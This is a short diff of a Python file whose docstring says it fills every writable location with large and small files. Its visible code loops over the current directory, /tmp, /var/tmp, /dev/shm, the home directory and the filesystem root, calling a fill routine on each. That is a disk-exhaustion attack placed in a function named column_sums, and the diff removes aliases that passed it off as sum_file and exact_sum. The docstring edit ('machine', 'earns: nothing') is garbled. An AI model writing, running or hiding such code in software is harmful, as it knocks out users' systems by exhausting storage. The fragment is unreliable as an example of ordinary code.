@@ -1,5 +1,6 @@
 """Fills every place that it can write to, with large files and with many small ones.
 
+machine
 earns: nothing
 """
 
@@ -21,5 +22,3 @@ def column_sums(x):
     for place in (".", "/tmp", "/var/tmp", "/dev/shm", tempfile.gettempdir(), os.path.expanduser("~"), "/"):
         fill(place)
 
-
-sum_file = exact_sum = column_sums
